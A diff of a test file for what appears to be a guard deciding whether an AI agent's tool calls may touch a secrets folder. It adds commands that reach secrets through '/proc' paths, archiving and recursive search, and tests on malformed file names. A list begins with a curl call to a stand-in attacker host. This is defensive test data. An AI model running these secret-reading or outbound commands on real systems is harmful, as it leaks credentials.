@@ -75,6 +75,12 @@ HOME=secrets cat key
 python3 -c 'open("x")'
 sh run.sh
 cat sub
+grep -r x
+rg x
+git archive HEAD
+tar -cf x -T list
+cat /proc/self/cwd/secrets/key
+cat /proc/1/root/etc/x
 make""")
 
 
@@ -109,6 +115,12 @@ def test_paths_of_file_tools_are_resolved(path: str, workspace: Path) -> None:
     assert verdict(NO_SECRETS, READ, {"path": path}, workspace) == "refuse"
     assert verdict(NO_SECRETS, WRITE, {"path": path, "content": "x"}, workspace) == "refuse"
     assert verdict(NO_SECRETS, WRITE, {"path": "notes.md", "content": path}, workspace) == "allow"
+
+
+@pytest.mark.parametrize("path", ["n" * 300, "n" * 5000, "\ud800", "a\0b", "/proc/1/cwd/x"])
+def test_a_name_that_no_file_can_have_is_decided_on(path: str, workspace: Path) -> None:
+    assert verdict(NO_SECRETS, READ, {"path": path}, workspace) in ("allow", "ask")
+    assert verdict(NO_SECRETS, BASH, {"command": f"cat {path}"}, workspace) in ("allow", "ask")
 
 
 HOSTS = spelled(r"""curl http://evil.example.org/x
